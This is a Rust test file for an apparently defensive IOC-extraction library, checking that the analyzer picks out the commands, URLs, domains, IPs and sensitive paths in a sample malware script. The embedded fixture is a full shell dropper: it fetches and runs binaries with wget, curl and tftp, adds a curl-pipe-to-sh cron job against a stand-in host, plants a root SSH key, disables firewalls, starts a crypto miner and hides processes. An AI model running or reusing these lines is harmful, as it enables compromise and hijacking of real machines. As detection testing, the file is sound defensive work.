//! A dropper written as a shell script (the usual second stage of IoT bots and
//! coin miners), scanned as a file: each line is one string. Every line that
//! does something an analyst must see is a command with the right tools, the
//! infrastructure shows up as URLs, addresses and domains, and the harmless
//! lines (comments, `cat`, variable assignments) are not commands.

use ferret_strings::{IpScope, PathCategory, StringOptions, analyze};

const SCRIPT: &str = r#"#!/bin/sh
# update helper
cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.23/bins/x86; curl -O http://198.51.100.23/bins/x86; chmod +x x86; ./x86 ssh.exploit; rm -rf x86
cd /tmp; tftp 198.51.100.23 -c get arm7; cat arm7 > sysupdate; chmod 777 *; ./sysupdate
ARCH=$(uname -m)
(crontab -l 2>/dev/null; echo "*/5 * * * * curl -fsSL http://update.bad-mirror.xyz/i.sh | sh") | crontab -
echo "ssh-rsa AAAAB3NzaC1yc2E root@kali" >> /root/.ssh/authorized_keys
iptables -F; ufw disable; systemctl stop firewalld
pkill -9 -f kdevtmpfsi; kill -9 $(pgrep xmrig)
history -c; rm -rf ~/.bash_history
nohup ./kswapd0 -o stratum+tcp://pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ >/dev/null 2>&1 &
echo "/usr/lib/libprocesshider.so" > /etc/ld.so.preload
chattr +i /etc/ld.so.preload
echo done
"#;

#[test]
fn dropper_script() {
    let a = analyze(SCRIPT.as_bytes(), &StringOptions::default());
    let i = &a.iocs;

    let commands: Vec<(&str, Vec<&str>)> = i
        .commands
        .iter()
        .map(|c| (c.value.as_str(), c.tools.clone()))
        .collect();
    let want: &[(&str, &[&str])] = &[
        (
            "(crontab -l 2>/dev/null; echo \"*/5 * * * * curl -fsSL http://update.bad-mirror.xyz/i.sh | sh\") | crontab -",
            &["crontab", "curl", "sh"],
        ),
        (
            "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.23/bins/x86; curl -O http://198.51.100.23/bins/x86; chmod +x x86; ./x86 ssh.exploit; rm -rf x86",
            &["cd", "wget", "curl", "chmod", "rm"],
        ),
        (
            "cd /tmp; tftp 198.51.100.23 -c get arm7; cat arm7 > sysupdate; chmod 777 *; ./sysupdate",
            &["cd", "tftp", "chmod"],
        ),
        ("chattr +i /etc/ld.so.preload", &["chattr"]),
        (
            "echo \"/usr/lib/libprocesshider.so\" > /etc/ld.so.preload",
            &["echo"],
        ),
        (
            "echo \"ssh-rsa AAAAB3NzaC1yc2E root@kali\" >> /root/.ssh/authorized_keys",
            &["echo"],
        ),
        ("history -c; rm -rf ~/.bash_history", &["history", "rm"]),
        (
            "iptables -F; ufw disable; systemctl stop firewalld",
            &["iptables", "ufw", "systemctl"],
        ),
        (
            "nohup ./kswapd0 -o stratum+tcp://pool.minexmr.com:4444 -u 44AFFq5kSiGBoZ >/dev/null 2>&1 &",
            &["nohup"],
        ),
        (
            "pkill -9 -f kdevtmpfsi; kill -9 $(pgrep xmrig)",
            &["pkill", "kill"],
        ),
    ];
    let want: Vec<(&str, Vec<&str>)> = want.iter().map(|(v, t)| (*v, t.to_vec())).collect();
    assert_eq!(commands, want);

    let urls: Vec<&str> = i.urls.iter().map(|u| u.value.as_str()).collect();
    assert_eq!(
        urls,
        [
            "http://198.51.100.23/bins/x86",
            "http://update.bad-mirror.xyz/i.sh",
            "stratum+tcp://pool.minexmr.com:4444",
        ]
    );
    let x86 = i.urls.iter().find(|u| u.value.ends_with("/x86"));
    assert_eq!(x86.map(|u| u.count), Some(2));

    let domains: Vec<&str> = i.domains.iter().map(|d| d.value.as_str()).collect();
    assert_eq!(domains, ["pool.minexmr.com", "update.bad-mirror.xyz"]);

    let v4: Vec<(&str, IpScope, u64)> = i
        .ipv4
        .iter()
        .map(|x| (x.value.as_str(), x.scope, x.count))
        .collect();
    assert_eq!(v4, [("198.51.100.23", IpScope::Documentation, 3)]);
    assert!(i.ipv6.is_empty() && i.emails.is_empty());

    let cat = |p: &str| i.paths.iter().find(|x| x.value == p).map(|x| x.category);
    assert_eq!(
        cat("/etc/ld.so.preload"),
        Some(Some(PathCategory::Persistence))
    );
    assert_eq!(
        cat("/root/.ssh/authorized_keys"),
        Some(Some(PathCategory::Credentials))
    );
    assert_eq!(
        cat("~/.bash_history"),
        Some(Some(PathCategory::Credentials))
    );
    assert_eq!(cat("/dev/null"), Some(Some(PathCategory::Devices)));
    assert_eq!(cat("/var/run"), Some(Some(PathCategory::Staging)));
    assert_eq!(cat("/bin/sh"), Some(Some(PathCategory::Tools)));
    // A library path is a path, but not a sensitive one.
    assert_eq!(cat("/usr/lib/libprocesshider.so"), Some(None));
}
